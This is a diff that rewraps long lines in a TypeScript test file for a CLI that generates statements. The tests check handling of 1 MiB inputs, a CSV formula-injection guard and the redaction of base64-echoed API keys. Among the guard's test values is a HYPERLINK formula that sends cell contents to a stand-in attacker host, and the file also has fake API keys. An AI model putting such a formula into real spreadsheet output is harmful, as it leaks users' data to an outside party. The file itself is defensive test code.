@@ -51,7 +51,10 @@ async function probe(p: ProbeRequest): Promise<ProbeReply> {
   w.unref();
   try {
     return await new Promise<ProbeReply>((done, fail) => {
-      const timer = setTimeout(() => fail(new Error(`a ${p.size}-character ${p.role} of ${JSON.stringify(p.unit)} runs did not finish within ${ROW_LIMIT_S} s`)), ROW_LIMIT_S * 1000);
+      const timer = setTimeout(
+        () => fail(new Error(`a ${p.size}-character ${p.role} of ${JSON.stringify(p.unit)} runs did not finish within ${ROW_LIMIT_S} s`)),
+        ROW_LIMIT_S * 1000,
+      );
       w.once("message", (m: ProbeReply) => (clearTimeout(timer), done(m)));
       w.once("error", (e) => (clearTimeout(timer), fail(e)));
       w.postMessage(p);
@@ -94,7 +97,10 @@ const ANSWER_SHAPES: [string, string][] = [
   ["yes and a run", "Yes, -x-"],
 ];
 
-/** Shapes whose text finish() removes by design (blank markers: runs of 3+ dashes, 2+ underscores, empty brackets) or that are only white space. */
+/**
+ * Shapes whose text finish() removes by design (blank markers: runs of 3+ dashes, 2+ underscores, empty brackets) or that are only white
+ * space.
+ */
 const REMOVED = new Set(["dashes", "underscores", "brackets", "white space"]);
 /** Shapes whose first sentence ends within the bound (or that are empty): the statement is made as before, with no doubt added. */
 const NOT_FLAGGED = new Set(["white space", "sentences"]);
@@ -103,14 +109,22 @@ const NOT_FLAGGED = new Set(["white space", "sentences"]);
 function assertBounded(r: ProbeReply): void {
   assert.ok(r.tagger.chars <= 64_000, `the tagger read ${r.tagger.chars} characters for one row`);
   assert.ok(r.tagger.longestRun <= 200, `the tagger read a run of ${r.tagger.longestRun} characters without a space`);
-  assert.ok(!/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/.test(r.statement), "no lone surrogate: the statement is well-formed UTF-16");
+  assert.ok(
+    !/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/.test(r.statement),
+    "no lone surrogate: the statement is well-formed UTF-16",
+  );
   assert.ok(!/[\n\r\t]/.test(r.statement), "one line");
   const ratio = r.bigSeconds / Math.max(r.smallSeconds, 2e-3);
-  assert.ok(ratio < 100, `1 MiB took ${r.bigSeconds.toFixed(3)} s, 64 KiB ${r.smallSeconds.toFixed(3)} s: ${ratio.toFixed(1)} times as long for 16 times the text`);
+  assert.ok(
+    ratio < 100,
+    `1 MiB took ${r.bigSeconds.toFixed(3)} s, 64 KiB ${r.smallSeconds.toFixed(3)} s: ${ratio.toFixed(1)} times as long for 16 times the text`,
+  );
 }
 
 for (const [name, unit] of ANSWER_SHAPES) {
-  test(`a 1 MiB answer of ${name} (${JSON.stringify(unit)} repeated): linear time, the tagger sees a bounded text, the row flagged, nothing dropped`, { timeout: 300_000 }, async () => {
+  test(`a 1 MiB answer of ${name} (${JSON.stringify(unit)} repeated): linear time, the tagger sees a bounded text, the row flagged, nothing dropped`, {
+    timeout: 300_000,
+  }, async () => {
     const r = await probe({ role: "answer", unit, size: MIB, smallSize: 64 * 1024 });
     assertBounded(r);
     if (NOT_FLAGGED.has(name)) assert.ok(!r.doubts.some((d) => d.startsWith("answer too long")), `doubts: ${r.doubts.join("; ")}`);
@@ -123,7 +137,8 @@ for (const [name, unit] of ANSWER_SHAPES) {
     }
     if (!REMOVED.has(name)) assert.ok(r.statement.length >= 0.5 * r.collapsedLength, `statement of ${r.statement.length} characters`);
     // The answer's last sentence, cut at 1 MiB ("… It is blue. It i"), ends the statement.
-    if (name === "sentences") assert.ok(r.statement.endsWith(`${unit.repeat(Math.ceil(MIB / unit.length)).slice(MIB - 30, MIB)}.`), r.statement.slice(-40));
+    if (name === "sentences")
+      assert.ok(r.statement.endsWith(`${unit.repeat(Math.ceil(MIB / unit.length)).slice(MIB - 30, MIB)}.`), r.statement.slice(-40));
   });
 }
 
@@ -144,7 +159,9 @@ const QUESTION_SHAPES: [string, string, boolean][] = [
 ];
 
 for (const [name, unit, colon] of QUESTION_SHAPES) {
-  test(`a 1 MiB question of ${name} (${JSON.stringify(unit)} repeated): linear time, the tagger sees a bounded text${colon ? ", the row flagged" : ""}`, { timeout: 300_000 }, async () => {
+  test(`a 1 MiB question of ${name} (${JSON.stringify(unit)} repeated): linear time, the tagger sees a bounded text${colon ? ", the row flagged" : ""}`, {
+    timeout: 300_000,
+  }, async () => {
     const r = await probe({ role: "question", unit, size: MIB, smallSize: 64 * 1024 });
     assertBounded(r);
     if (colon) {
@@ -158,7 +175,9 @@ for (const [name, unit, colon] of QUESTION_SHAPES) {
   });
 }
 
-test("capqa statements generate: four 1 MiB answers (-, ., x-, 's runs) finish, each row flagged and counted in the summary", { timeout: 300_000 }, () => {
+test("capqa statements generate: four 1 MiB answers (-, ., x-, 's runs) finish, each row flagged and counted in the summary", {
+  timeout: 300_000,
+}, () => {
   const input = join(root, "runs.csv");
   const shapes = ["-", ".", "x-", "'s"];
   writeFileSync(
@@ -169,7 +188,11 @@ test("capqa statements generate: four 1 MiB answers (-, ., x-, 's runs) finish, 
     ),
   );
   const out = join(root, "runs-statements.csv");
-  const r = spawnSync(process.execPath, [CLI, "statements", "generate", "--in", input, "--out", out, "--json", "--quiet"], { encoding: "utf8", timeout: 280_000, killSignal: "SIGKILL" });
+  const r = spawnSync(process.execPath, [CLI, "statements", "generate", "--in", input, "--out", out, "--json", "--quiet"], {
+    encoding: "utf8",
+    timeout: 280_000,
+    killSignal: "SIGKILL",
+  });
   assert.equal(r.status, 0, r.stderr);
   const summary = JSON.parse(r.stdout) as { statements: { generated: number; flagged: number; doubts: Record<string, number> } };
   assert.equal(summary.statements.generated, 4);
@@ -193,7 +216,10 @@ test("ordinary answers are analysed whole: no bound reached, no doubt added", ()
 const guard = (csv as unknown as { guardFormula?: (text: string) => string }).guardFormula;
 type GuardedToCsv = (columns: readonly string[], rows: readonly Record<string, unknown>[], options?: { formulaGuard?: boolean }) => string;
 
-/** Cells a spreadsheet runs as formulas (OWASP's CSV Injection: = + - @ tab CR first, also after leading white space or quotes; ASVS adds NUL; full-width forms), and what the guard makes of them. */
+/**
+ * Cells a spreadsheet runs as formulas (OWASP's CSV Injection: = + - @ tab CR first, also after leading white space or quotes; ASVS adds
+ * NUL; full-width forms), and what the guard makes of them.
+ */
 const FORMULAS: [string, string][] = [
   ["=1+1", "'=1+1"],
   ['=HYPERLINK("http://evil.example/?q="&A1,"click")', `'=HYPERLINK("http://evil.example/?q="&A1,"click")`],
@@ -249,7 +275,12 @@ test("writeRowTable (every CSV output of the CLI): the formulaGuard option, and 
   const dir = join(root, "guard-files");
   mkdirSync(dir, { recursive: true });
   const rows = [{ question: "=1+1", answer: "@x", cap: -0.25 }];
-  const write = writeRowTable as (file: string, columns: readonly string[], rows: readonly Record<string, unknown>[], options?: { formulaGuard?: boolean }) => void;
+  const write = writeRowTable as (
+    file: string,
+    columns: readonly string[],
+    rows: readonly Record<string, unknown>[],
+    options?: { formulaGuard?: boolean },
+  ) => void;
   write(join(dir, "opt.csv"), ["question", "answer", "cap"], rows, { formulaGuard: true });
   assert.deepEqual(readRowTable(join(dir, "opt.csv")).rows[0], { question: "'=1+1", answer: "'@x", cap: "-0.25" });
   write(join(dir, "off.csv"), ["question", "answer", "cap"], rows);
@@ -283,7 +314,8 @@ test("capqa --csv-formula-guard: the statements written from formula-like questi
       ],
     ),
   );
-  const go = (extra: string[], out: string) => spawnSync(process.execPath, [CLI, "statements", "generate", "--in", input, "--out", out, "--quiet", ...extra], { encoding: "utf8" });
+  const go = (extra: string[], out: string) =>
+    spawnSync(process.execPath, [CLI, "statements", "generate", "--in", input, "--out", out, "--quiet", ...extra], { encoding: "utf8" });
   const on = go(["--csv-formula-guard"], join(dir, "on.csv"));
   assert.equal(on.status, 0, on.stderr);
   const rows = readRowTable(join(dir, "on.csv")).rows;
@@ -301,7 +333,10 @@ test("capqa --csv-formula-guard: the statements written from formula-like questi
 const KEY = "sk-ant-api03-B64leakTEST-Zq81vN4mP7xR2wL9yT";
 const OTHER = "sk-proj-OTHERkey-5551234abcdXYZ";
 
-/** The key's base64 as it sits inside any encoded text: the characters that depend on the key's bytes only, for each of the 3 byte alignments, standard and URL-safe. */
+/**
+ * The key's base64 as it sits inside any encoded text: the characters that depend on the key's bytes only, for each of the 3 byte
+ * alignments, standard and URL-safe.
+ */
 function base64Cores(secret: string): string[] {
   const bytes = Buffer.from(secret);
   const out = new Set<string>();
@@ -314,7 +349,10 @@ function base64Cores(secret: string): string[] {
   return [...out];
 }
 
-/** Texts holding the key base64-encoded the ways a reply can: padded or not, URL-safe, inside a larger encoded header at every alignment, wrapped at 76 (MIME, CRLF) and 64 (PEM) characters, indented. */
+/**
+ * Texts holding the key base64-encoded the ways a reply can: padded or not, URL-safe, inside a larger encoded header at every alignment,
+ * wrapped at 76 (MIME, CRLF) and 64 (PEM) characters, indented.
+ */
 function encodedEchoes(secret: string): string[] {
   const b64 = (s: string) => Buffer.from(s).toString("base64");
   const url = (s: string) => b64(s).replace(/\+/g, "-").replace(/\//g, "_");
@@ -335,11 +373,15 @@ function encodedEchoes(secret: string): string[] {
   ];
 }
 
-/** Whether `text` still holds the key, a 16-character run of one of its base64 cores (white space and \n escapes ignored), or 12 characters of the plain key. */
+/**
+ * Whether `text` still holds the key, a 16-character run of one of its base64 cores (white space and \n escapes ignored), or 12 characters
+ * of the plain key.
+ */
 function leaks(text: string, secret: string): string | undefined {
   const compact = text.replace(/\\[rnt]|\s/g, "");
   if (text.includes(secret.slice(4, 16))) return "the plain key";
-  for (const core of base64Cores(secret)) for (let i = 0; i + 16 <= core.length; i += 4) if (compact.includes(core.slice(i, i + 16))) return `base64 ${core.slice(i, i + 16)}`;
+  for (const core of base64Cores(secret))
+    for (let i = 0; i + 16 <= core.length; i += 4) if (compact.includes(core.slice(i, i + 16))) return `base64 ${core.slice(i, i + 16)}`;
   return undefined;
 }
 
@@ -353,11 +395,18 @@ test("Provider.redact: the key's base64 (standard, URL-safe, padded or not, at e
       assert.ok(got.includes("[REDACTED]"), `form ${k}: ${got}`);
       assert.ok(got.startsWith("Sure. The value is ") && got.endsWith(" as requested."), got);
     }
-  const innocent = [`The answer is 42. ${Buffer.from("an ordinary sentence, encoded").toString("base64")}`, "c2stYW50 is not a key", "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo="];
+  const innocent = [
+    `The answer is 42. ${Buffer.from("an ordinary sentence, encoded").toString("base64")}`,
+    "c2stYW50 is not a key",
+    "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo=",
+  ];
   for (const t of innocent) assert.equal(p.redact(t), t);
 });
 
-/** An OpenAI-compatible server on 127.0.0.1 whose replies start with a formula and echo the key base64-encoded in the text, the model and the finish reason. */
+/**
+ * An OpenAI-compatible server on 127.0.0.1 whose replies start with a formula and echo the key base64-encoded in the text, the model and
+ * the finish reason.
+ */
 async function echoingServer() {
   const server = createServer(async (req: IncomingMessage, res: ServerResponse) => {
     for await (const _ of req);
